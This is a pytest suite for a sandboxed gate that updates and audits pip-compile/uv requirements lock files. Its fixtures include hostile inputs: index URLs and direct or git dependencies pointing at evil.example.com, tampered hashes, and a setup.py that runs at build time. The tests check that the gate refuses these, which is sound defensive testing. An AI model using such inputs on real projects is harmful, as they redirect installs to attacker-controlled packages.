"""Pins that an `.in` file asks for, on this machine: real uv, registries over HTTP, files that mean no good."""

import json
import tarfile
from pathlib import Path

import pytest

from sandbox.gate.locks import Lock, read_lock
from sandbox.gate.updated import judge_update
from sandbox.updates.running import KEPT
from tests.sandbox.updates.registries import HOSTS, Package
from tests.sandbox.updates.working import AFTER, ASKED, BEFORE, HEAD, Here, committed, pins

NAME = "requirements.txt"


def read(here: Here, which: str) -> Lock:
    return read_lock(NAME, here.kept(which).encode())


def libraries(here: Here) -> set[str]:
    with tarfile.open(here.folder / "out" / "libraries.tar") as archive:
        return {Path(one).name for one in archive.getnames()}


@pytest.mark.parametrize("hashed", [True, False])
def test_pins_move_and_keep_their_form(here: Here, hashed: bool) -> None:
    head = HEAD if hashed else ""
    tree = here.pinned(pins(*BEFORE, hashed=hashed, head=head))
    said = here.update()
    assert (said["lock"], said["ecosystem"]) == (NAME, "pip")
    assert here.kept("after") == pins(*AFTER, hashed=hashed, head=head)
    assert (tree / "requirements.in").read_text() == ASKED
    assert said["links"]["hello"] == "https://code.example.com/hello/changes"
    assert {"hello-1.1.dist-info", "helper-1.0.dist-info", "other-2.1.dist-info"} <= libraries(here)
    after = read(here, "after")
    assert (judge_update(read(here, "before"), after, hosts=HOSTS), after.hashed) == ((), hashed)


def test_of_a_group_only_that_moves_and_what_else_could_is_told(here: Here) -> None:
    here.pinned(pins(*BEFORE))
    here.update("other")
    assert here.kept("after") == pins(BEFORE[0], AFTER[2])
    assert read(here, "all").versions()["hello"] == ("1.1",)


def test_where_nothing_moves_nothing_is_fetched(here: Here) -> None:
    here.registries.python = [*BEFORE]
    here.pinned(pins(*BEFORE))
    here.update()
    assert here.kept("patch") == ""
    assert not (here.folder / "out" / "libraries.tar").exists()


def test_tests_have_what_stands_in_pins_beside_and_the_new_version_of_both(here: Here) -> None:
    tools = Package("tools", "3.0")
    here.registries.python.append(tools)
    beside = pins(BEFORE[0], tools, hashed=False, head="") + "-e .\n"
    here.pinned(pins(*BEFORE), **{"requirements-dev.in": "tools\n-r requirements.in\n", "requirements-dev.txt": beside})
    here.update(write=(NAME,))
    assert {"tools-3.0.dist-info", "hello-1.1.dist-info"} <= libraries(here)
    assert "hello-1.0.dist-info" not in libraries(here)


def test_pins_in_a_folder_are_found_and_told_by_where_they_lie(here: Here) -> None:
    text = pins(*BEFORE, head="").replace("-r requirements.in", "-r requirements/base.in")
    here.pinned("", **{"requirements/base.in": ASKED, "requirements/base.txt": text})
    said = here.update(write=("requirements/**",))
    assert said["lock"] == "requirements/base.txt"
    assert here.kept("after") == pins(*AFTER, head="").replace("-r requirements.in", "-r requirements/base.in")
    assert "hello-1.1.dist-info" in libraries(here)


def test_a_marker_stays_with_its_pin(here: Here) -> None:
    text = pins(*BEFORE).replace("other==2.0 ", "other==2.0 ; sys_platform == 'win32' ")
    here.pinned(text, **{"requirements.in": "hello>=1\nother>=2 ; sys_platform == 'win32'\n"})
    here.update()
    assert "other==2.1 ; sys_platform == 'win32' \\\n" in here.kept("after")


def test_pins_that_nothing_asks_for_are_refused_with_what_to_do(here: Here) -> None:
    committed(here.folder / "tree", {NAME: pins(*BEFORE)})
    said = here.update()
    assert said["refused"].startswith("'requirements.txt' has no 'requirements.in' beside it")
    assert here.registries.seen == []


def test_pins_that_nothing_asks_for_stand_in_no_other_lock_files_way(here: Here) -> None:
    here.begin(**{"docs/requirements.txt": "hello==1.0\n"})
    assert here.update()["lock"] == "uv.lock"


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("pip-compile --extra=more requirements.in", "'--extra'"),
        ("pip-compile --index-url https://evil.example.com/simple requirements.in", "'--index-url'"),
        ("uv pip compile requirements.in --overrides=x.txt -o requirements.txt", "'--overrides'"),
        ("uv pip compile requirements.in other.in -o requirements.txt", "'other.in'"),
        ("uv pip compile pyproject.toml -o requirements.txt", "'pyproject.toml'"),
        ("pip-compile 'requirements.in", "No closing quotation"),
    ],
)
def test_pins_made_in_a_way_that_is_not_known_are_refused(here: Here, command: str, told: str) -> None:
    here.pinned(pins(*BEFORE, head=f"#    {command}\n"))
    assert told in here.update()["refused"]
    assert here.registries.seen == []


def test_a_package_without_a_wheel_is_refused_before_its_setup_runs(here: Here) -> None:
    ran = Path("/tmp/ran")  # noqa: S108 - where that setup would write
    ran.unlink(missing_ok=True)
    here.registries.python = [Package("hello", "1.0"), Package("hello", "1.5", source=True), Package("other", "2.0")]
    here.pinned(pins(*BEFORE), **{"requirements.in": "hello>=1.2\nother>=2\n"})
    assert "hello" in here.update()["refused"]
    assert not ran.exists()


@pytest.mark.parametrize(
    "asked",
    [
        "hello @ https://evil.example.com/hello-1.5-py3-none-any.whl\nother>=2\n",
        "hello @ git+https://evil.example.com/hello.git\nother>=2\n",
    ],
    ids=["address", "git"],
)
def test_what_is_asked_for_from_elsewhere_is_not_had(here: Here, asked: str) -> None:
    here.pinned(pins(*BEFORE), **{"requirements.in": asked})
    assert here.update()["refused"].startswith("`uv pip` ended with")
    assert [*(here.folder / "out").iterdir()] == []


def test_an_index_that_the_file_names_is_not_asked(here: Here) -> None:
    here.pinned(pins(*BEFORE), **{"requirements.in": f"--index-url https://evil.example.com/simple/\n{ASKED}"})
    here.update()
    assert here.kept("after") == pins(*AFTER)


def test_a_folder_of_the_repository_is_no_pin_and_is_not_built(here: Here) -> None:
    here.pinned(
        pins(*BEFORE),
        **{
            "requirements.in": f"-e ./own\n{ASKED}",
            "own/pyproject.toml": '[project]\nname = "own"\nversion = "1"\ndependencies = []\n',
            "own/setup.py": "open('/tmp/ran', 'w')\n",
        },
    )
    assert here.update()["refused"].endswith("has lines that are no pins of one version")
    assert [*(here.folder / "out").iterdir()] == []


def test_a_version_whose_content_the_registry_has_exchanged_is_not_fetched(here: Here) -> None:
    text = pins(*BEFORE)
    digest = text.partition("hello==1.0")[2].partition("sha256:")[2][:64]
    here.pinned(text.replace(digest, "0" * 64))
    said = here.update("other")
    assert "Hash mismatch for `hello==1.0`" in said["refused"]
    assert [one.name for one in (here.folder / "out").iterdir() if one.name in KEPT] == []


def test_an_audit_asks_about_every_pin_before_and_after(here: Here) -> None:
    tree = here.pinned(pins(*BEFORE))
    (tree / NAME).write_text(pins(*AFTER))
    here.registries.vulnerable = [("hello", "1.0"), ("helper", "1.0")]
    said = here.audit(NAME)
    assert [one["dependency"]["name"] for one in said["before"]["vulnerabilities"]] == ["hello"]
    assert [one["dependency"]["name"] for one in said["after"]["vulnerabilities"]] == ["helper"]
    assert (said["before"]["summary"]["audited_packages"], said["after"]["summary"]["audited_packages"]) == (2, 3)


@pytest.mark.parametrize("line", ["hidden @ https://evil.example.com/x.whl", "-r more.txt", "hidden>=1", "hidden"])
def test_an_audit_of_what_nobody_would_be_asked_about_has_not_run(here: Here, line: str) -> None:
    here.pinned(f"{pins(*BEFORE)}{line}\n")
    assert "lines that are no pins" in here.audit(NAME)["refused"]
    assert here.registries.seen == []


def test_an_audit_that_nobody_answers_has_not_run(here: Here) -> None:
    here.pinned(pins(*BEFORE))
    here.registries.audits = False
    said = here.audit(NAME)
    assert said.keys() == {"refused"}
    assert "503" in json.dumps(said)
